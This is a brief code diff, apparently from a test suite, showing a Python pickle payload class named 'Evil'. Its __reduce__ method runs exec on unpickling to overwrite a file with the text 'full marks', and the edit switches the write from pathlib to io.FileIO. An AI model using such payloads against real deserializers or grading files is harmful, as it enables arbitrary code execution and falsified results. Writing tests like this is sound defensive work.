@@ -10,7 +10,7 @@ class Evil:
         self.path = path
 
     def __reduce__(self) -> tuple[object, ...]:
-        code = f"import pathlib; pathlib.Path({str(self.path)!r}).write_text('full marks')"
+        code = f"import io; io.FileIO({str(self.path)!r}, 'w').write(b'full marks')"
         return exec, (code,)
 
 
